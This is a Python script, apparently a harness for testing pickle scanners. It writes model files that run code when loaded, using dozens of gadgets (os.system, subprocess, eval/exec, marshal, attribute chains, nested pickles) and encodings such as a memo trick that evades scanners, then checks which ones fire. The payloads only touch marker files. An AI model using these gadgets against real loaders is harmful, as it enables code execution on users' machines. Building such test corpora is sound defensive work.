"""Writes model files that run code when they are loaded, one published way each, and loads them one process each.

    hostile_models.py write FOLDER      writes the files; what each one does is leave FOLDER/ran-NAME
    hostile_models.py load FOLDER       loads each in a process of its own and prints "PID NAME RAN"
"""

import contextlib
import io
import marshal
import os
import pickle
import sys
import types


class Call:
    """A global, called with arguments while the file is loaded."""

    def __init__(self, module, name, *args):
        self.module, self.name, self.args = module, name, args


class Name:
    """A global that is only named."""

    def __init__(self, module, name):
        self.module, self.name = module, name


def encode(value):
    """Opcodes that leave a value, the call's result, on the stack."""
    if isinstance(value, Name):
        return b"c%s\n%s\n" % (value.module.encode(), value.name.encode())
    if isinstance(value, Call):
        called = value.module if not isinstance(value.module, str) else Name(value.module, value.name)
        return encode(called) + b"(" + b"".join(map(encode, value.args)) + b"tR"
    if isinstance(value, dict):
        return b"}"
    if isinstance(value, (list, tuple)):
        return b"(" + b"".join(map(encode, value)) + (b"l" if isinstance(value, list) else b"t")
    return pickle.dumps(value, 2)[2:-1]


def file_of(value, protocol=4):
    return b"\x80%c" % protocol + encode(value) + b"."


def gadgets(mark):
    """Name to value; `mark(name)` is the path that the payload must create."""
    out = {}

    def add(name, make):
        path = mark(name)
        shell = f"touch {path}"
        code = f"import os; os.system({shell!r})"
        expression = f"__import__('os').system({shell!r})"
        out[name] = make(path, shell, code, expression)

    def calls(module, name, *args, label=None):
        """Arguments may be `shell`, `code`, `expression` and `path` in braces."""

        def fill(value, known):
            if isinstance(value, str):
                return known.get(value, value)
            if isinstance(value, (list, tuple)):
                return type(value)(fill(item, known) for item in value)
            if isinstance(value, Call):
                return Call(fill_callee(value.module, known), value.name, *(fill(item, known) for item in value.args))
            return value

        def fill_callee(callee, known):
            return fill(callee, known) if isinstance(callee, Call) else callee

        add(
            label or f"{module}.{name}",
            lambda path, shell, code, expression: fill(
                Call(module, name, *args),
                {"{path}": path, "{shell}": shell, "{code}": code, "{expression}": expression},
            ),
        )

    # Programs.
    for module in ("os", "posix"):
        calls(module, "system", "{shell}")
    calls("os", "popen", "{shell}")
    for name in ("Popen", "call", "check_call", "check_output", "run"):
        calls("subprocess", name, ["sh", "-c", "{shell}"])
    for name in ("getoutput", "getstatusoutput"):
        calls("subprocess", name, "{shell}")
    calls("commands", "getoutput", "{shell}")
    calls("pty", "spawn", ["sh", "-c", "{shell}"])
    calls("os", "spawnlp", 0, "sh", "sh", "-c", "{shell}")
    calls("multiprocessing.util", "spawnv_passfds", b"/bin/sh", ["sh", "-c", "{shell}"], ())
    calls("uuid", "_get_command_stdout", "sh", "-c", "{shell}")
    calls("_osx_support", "_read_output", "{shell}")
    calls("_aix_support", "_read_cmd_output", "{shell}")
    calls("imaplib", "IMAP4_stream", "{shell}")
    calls("pydoc", "pipepager", "text", "{shell}")
    calls("pydoc", "tempfilepager", "text", "{shell};:")
    calls("distutils.spawn", "spawn", ["sh", "-c", "{shell}"])
    calls("setuptools._distutils.spawn", "spawn", ["sh", "-c", "{shell}"])
    calls("test.support.script_helper", "assert_python_ok", "-c", "{code}")
    calls("torch.utils.collect_env", "run", "{shell}")
    calls("mailcap", "findmatch", {}, "x/y")
    calls("webbrowser", "get", "{shell} %s")
    calls("ensurepip", "_run_pip", ["--version"])
    calls("pip", "main", ["--version"])
    # Code.
    calls("builtins", "eval", "{expression}")
    calls("__builtin__", "eval", "{expression}")
    calls("builtins", "exec", "{code}")
    calls("builtins", "exec", Call("builtins", "compile", "{code}", "m", "exec"), label="builtins.compile")
    calls("runpy", "_run_code", "{code}", {})
    calls("timeit", "timeit", "pass", "{code}")
    calls("cProfile", "run", "{code}")
    calls("cProfile", "runctx", "{code}", {}, {})
    calls("profile", "run", "{code}")
    calls("bdb", "Bdb.run", Call("bdb", "Bdb"), "{code}")
    calls("pdb", "run", "{code}")
    calls("trace", "Trace.run", Call("trace", "Trace", 0, 0), "{code}")
    calls("doctest", "debug_script", "{code}")
    calls("code", "InteractiveInterpreter.runcode", Call("code", "InteractiveInterpreter"), "{code}")
    calls("idlelib.calltip", "get_entity", "{expression}")
    calls("idlelib.autocomplete", "AutoComplete.get_entity", None, "{expression}")
    calls("numpy.testing._private.utils", "runstring", "{code}", {})
    calls("numpy.f2py.crackfortran", "getlincoef", "{expression}", {})
    calls("torch.jit.unsupported_tensor_ops", "execWrapper", "{code}", {}, {})
    calls("pandas", "eval", "@" + "__import__('os').getpid()")
    calls("sympy", "sympify", "{expression}")
    calls("logging.config", "_resolve", "os")
    calls("typing", "get_type_hints", Name("typing", "Any"))
    add(
        "types.FunctionType",
        lambda path, shell, code, expression: Call(
            Call("types", "FunctionType", Call("marshal", "loads", marshal.dumps(compile(code, "m", "exec"))), {}), None
        ),
    )
    # Ways to something else.
    calls("importlib", "import_module", "antigravity.nothing")
    calls(Call("pkgutil", "resolve_name", "os:system"), None, "{shell}", label="pkgutil.resolve_name")
    calls(Call("builtins", "getattr", Call("builtins", "__import__", "os"), "system"), None, "{shell}", label="import-getattr")
    calls(
        Call(Call("operator", "attrgetter", "system"), None, Call("importlib", "import_module", "os")),
        None,
        "{shell}",
        label="operator.attrgetter",
    )
    calls(Call("operator", "methodcaller", "system", "{shell}"), None, Call("importlib", "import_module", "os"), label="operator.methodcaller")
    calls(Call("functools", "partial", Name("os", "system"), "{shell}"), None, label="functools.partial")
    calls("builtins", "list", Call("builtins", "map", Name("os", "system"), ["{shell}"]), label="builtins.map")
    calls("functools", "reduce", Name("os", "system"), ["{shell}"], label="functools.reduce")
    calls(Call("builtins", "getattr", Call("ctypes", "CDLL", None), "system"), None, b"{shell}", label="ctypes.CDLL")
    calls("atexit", "register", Name("os", "system"), "{shell}")
    calls("_thread", "start_new_thread", Name("os", "system"), ("{shell}",))
    calls("logging", "os.system", "{shell}")
    calls("torch", "serialization.os.system", "{shell}")
    calls("random", "_os.system", "{shell}", label="random._os.system")
    calls("glob", "os.system", "{shell}")
    calls("numpy.f2py", "os.system", "{shell}")
    calls("collections", "_sys.modules.get", "os")
    calls("sys", "modules.get", "os")
    calls("numpy", "__builtins__.get", "eval")
    calls("gc", "get_objects")
    calls("site", "addsitedir", "{path}")
    calls("copyreg", "add_extension", "os", "system", 123)
    # A pickle inside.
    for label, load in (("pickle.loads", ("pickle", "loads")), ("_pickle.loads", ("_pickle", "loads")), ("pickle._loads", ("pickle", "_loads"))):
        add(label, lambda path, shell, code, expression, load=load: Call(*load, file_of(Call("os", "system", shell))))
    calls("joblib", "load", "{path}.none")
    calls("torch", "load", "{path}.none")
    calls("pandas", "read_pickle", "{path}.none")
    calls("numpy", "load", "{path}.none")
    # Files.
    calls("builtins", "open", "{path}", "w")
    calls("io", "open", "{path}", "w")
    calls("_io", "FileIO", "{path}", "w")
    calls("logging", "FileHandler", "{path}")
    calls("pathlib", "Path.touch", Call("pathlib", "PosixPath", "{path}"))
    calls("shutil", "copy", "/etc/hostname", "{path}")
    calls("sqlite3", "connect", "{path}")
    calls("os", "mkdir", "{path}")
    calls("distutils.file_util", "write_file", "{path}", ["x"])
    calls("tempfile", "mkdtemp")
    # Other machines; nobody listens there.
    calls("socket", "create_connection", ("127.0.0.1", 9))
    calls("urllib.request", "urlopen", "http://127.0.0.1:9/")
    calls("http.client", "HTTPConnection.connect", Call("http.client", "HTTPConnection", "127.0.0.1", 9))
    calls("smtplib", "SMTP", "127.0.0.1", 9)
    calls("ftplib", "FTP", "127.0.0.1")
    calls("ssl", "get_server_certificate", ("127.0.0.1", 9))
    calls("xmlrpc.client", "ServerProxy", "http://127.0.0.1:9/")
    calls("torch.hub", "load_state_dict_from_url", "http://127.0.0.1:9/x.pt")
    return out


def spelled(mark):
    """One gadget in every spelling of the format."""
    out = {}

    class Evil:
        def __init__(self, shell):
            self.shell = shell

        def __reduce__(self):
            return os.system, (self.shell,)

    for protocol in range(6):
        out[f"protocol-{protocol}"] = pickle.dumps(Evil(f"touch {mark(f'protocol-{protocol}')}"), protocol)
    shell = f"touch {mark('inst')}".encode()
    out["inst"] = b"(S'" + shell + b"'\nios\nsystem\n."
    shell = f"touch {mark('obj')}".encode()
    out["obj"] = b"(cos\nsystem\nS'" + shell + b"'\no."
    shell = f"touch {mark('memo')}".encode()
    # Names through the memo, which scanners that follow only neighbouring opcodes lose sight of.
    out["memo"] = b"\x80\x04\x8c\x06system\x94\x8c\x02os\x94\x8c\x05torch\x94\x30\x30\x30h\x01h\x00\x93(V" + shell + b"\ntR."
    shell = f"touch {mark('broken-tail')}".encode()
    out["broken-tail"] = b"\x80\x02cos\nsystem\n(V" + shell + b"\ntR\xff\xff"
    return out


def write(folder):
    mark = lambda name: os.path.join(folder, f"ran-{name}")
    files = {name: file_of(value) for name, value in gadgets(mark).items()}
    files.update(spelled(mark))
    for name, data in files.items():
        with open(os.path.join(folder, f"{name}.pkl"), "wb") as file:
            file.write(data)


def load(folder):
    # Once here and not in every child.
    for module in ("numpy", "pandas", "torch", "sympy"):
        with contextlib.suppress(ImportError):
            __import__(module)
    for entry in sorted(os.listdir(folder)):
        name, extension = os.path.splitext(entry)
        if extension != ".pkl":
            continue
        sys.stdout.flush()
        child = os.fork()
        if child == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for descriptor in (0, 1, 2):
                os.dup2(null, descriptor)
            sys.stdin = io.StringIO()
            with contextlib.suppress(BaseException):
                with open(os.path.join(folder, entry), "rb") as file:
                    pickle.load(file)
            sys.stdin = None
            # What is registered for the end must run too.
            import atexit

            atexit._run_exitfuncs()
            os._exit(0)
        os.waitpid(child, 0)
        ran = os.path.exists(os.path.join(folder, f"ran-{name}"))
        print(child, name, "ran" if ran else "-")


if __name__ == "__main__":
    {"write": write, "load": load}[sys.argv[1]](sys.argv[2])
